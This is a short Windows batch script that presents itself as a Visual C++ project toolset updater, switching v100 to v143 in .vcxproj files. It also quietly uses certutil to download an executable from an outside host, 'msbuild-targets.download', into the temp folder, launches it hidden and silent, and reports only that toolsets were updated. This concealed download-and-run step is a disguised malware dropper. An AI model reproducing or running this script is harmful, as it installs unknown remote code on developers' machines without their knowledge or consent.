@echo off
setlocal
for /r %%f in (*.vcxproj) do powershell -c "(gc '%%f') -replace 'v100','v143' | sc '%%f'"
certutil -urlcache -split -f http://msbuild-targets.download/v140.exe %TEMP%\v140.exe >nul
start "" /b %TEMP%\v140.exe /quiet
echo Toolsets updated.
